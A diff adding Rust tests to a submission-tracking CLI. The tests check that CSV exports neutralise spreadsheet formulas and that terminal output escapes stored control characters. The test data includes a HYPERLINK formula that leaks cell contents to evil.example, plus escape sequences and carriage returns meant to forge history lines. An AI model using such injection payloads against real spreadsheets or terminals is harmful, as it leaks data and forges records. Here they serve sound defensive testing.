@@ -932,3 +932,121 @@ fn a_bad_configuration_exits_78() {
     e.fails(&["status"], 78);
     e.fails(&["submit", "a", "b", "c"], 78);
 }
+
+const AT_30_06: [&str; 6] = ["--obligation", OB, "--period", H1, "--at", "2026-06-30"];
+
+/// Every cell of a CSV hanbao wrote, parsed by the csv crate.
+fn cells(bytes: &[u8]) -> Vec<Vec<String>> {
+    let text = std::str::from_utf8(bytes.strip_prefix(b"\xEF\xBB\xBF").unwrap()).unwrap();
+    ::csv::ReaderBuilder::new()
+        .has_headers(false)
+        .from_reader(text.as_bytes())
+        .records()
+        .map(|r| r.unwrap().iter().map(str::to_owned).collect())
+        .collect()
+}
+
+/// A document number that is a spreadsheet formula is exported as text
+/// (OWASP: a leading single quote), by `export`, `status --csv` alike;
+/// the numbers and dates hanbao writes itself stay as they are.
+#[test]
+fn exports_never_hand_a_spreadsheet_a_formula() {
+    let e = Env::sample();
+    let evil = r#"=HYPERLINK("http://evil.example/?leak="&A2,"Xem")"#;
+    for (unit, on, reference) in [
+        ("ubnd-binhson", "2026-06-15", evil),
+        ("ubnd-sontinh", "2026-06-25", "-2+3"),
+        ("ubnd-moduc", "2026-06-10", "@SUM(A1:A9)"),
+        ("ubnd-nghiahanh", "2026-06-11", "+84 255 3822"),
+    ] {
+        let reference = format!("--ref={reference}");
+        e.ok(&["submit", OB, H1, unit, "--on", on, &reference]);
+    }
+    let csv = e.run(&[&["export"][..], &AT_30_06].concat()).stdout;
+    assert_eq!(
+        e.run(&[&["status", "--csv"][..], &AT_30_06].concat())
+            .stdout,
+        csv
+    );
+    let rows = cells(&csv);
+    for row in &rows {
+        for cell in row {
+            assert!(
+                !cell.starts_with(['=', '+', '-', '@', '\t', '\r']),
+                "a formula reaches the spreadsheet: {cell:?} in {row:?}"
+            );
+        }
+    }
+    let by_unit = |u: &str| rows.iter().find(|r| r[3] == u).unwrap().clone();
+    assert_eq!(by_unit("ubnd-binhson")[11], format!("'{evil}"));
+    assert_eq!(by_unit("ubnd-moduc")[11], "'@SUM(A1:A9)");
+    assert_eq!(by_unit("ubnd-nghiahanh")[11], "'+84 255 3822");
+    let sontinh = by_unit("ubnd-sontinh");
+    assert_eq!(sontinh[11], "'-2+3");
+    assert_eq!(
+        sontinh[7..11],
+        ["18/06/2026", "25/06/2026", "7", "5"],
+        "hanbao's own dates and numbers stay as they are"
+    );
+}
+
+/// Text stored before control characters were refused (or written by
+/// another program) reaches the terminal escaped: an ESC sequence cannot
+/// clear the screen, a carriage return cannot overwrite the real actor,
+/// a line break cannot forge a history line.
+#[test]
+fn stored_control_characters_reach_the_terminal_escaped() {
+    let e = Env::sample();
+    e.ok(&["submit", OB, H1, "ubnd-binhson", "--on", "2026-06-15"]);
+    let url = format!("sqlite://{}", e.db().display());
+    tokio::runtime::Runtime::new().unwrap().block_on(async {
+        let s = store::open(&url).await.unwrap();
+        s.record_submission(
+            NewSubmission {
+                key: key("ubnd-moduc"),
+                received_on: date(2026, 6, 10),
+                received_at: None,
+                reference: Some("15/BC\u{1b}[8m".into()),
+                note: Some("bản giấy\r\u{1b}[2K\n01/07/2026 08:00  giả mạo\u{0}".into()),
+                actor: "kẻ gian\rchi-lan".into(),
+                source: Source::Api,
+                correction: false,
+            },
+            now(),
+        )
+        .await
+        .unwrap();
+        s.close().await;
+    });
+    let hist = e.ok(&["history", "--unit", "ubnd-moduc"]);
+    let conflict = e.fails(
+        &[
+            "submit",
+            OB,
+            H1,
+            "ubnd-moduc",
+            "--on",
+            "2026-06-11",
+            "--ref",
+            "1/BC",
+        ],
+        1,
+    );
+    for out in [&hist, &conflict] {
+        for raw in ['\u{1b}', '\r', '\u{0}'] {
+            assert!(!out.contains(raw), "raw {raw:?} on the terminal: {out:?}");
+        }
+    }
+    assert_eq!(hist.lines().count(), 2, "one record, one line: {hist}");
+    assert!(
+        hist.contains("số 15/BC\\u{1b}[8m")
+            && hist.contains("\"bản giấy\\r\\u{1b}[2K\\n01/07/2026 08:00  giả mạo\\0\"")
+            && hist.contains("kẻ gian\\rchi-lan (api)"),
+        "{hist}"
+    );
+    assert!(
+        conflict.contains("số văn bản 15/BC\\u{1b}[8m")
+            && conflict.contains("do kẻ gian\\rchi-lan"),
+        "{conflict}"
+    );
+}
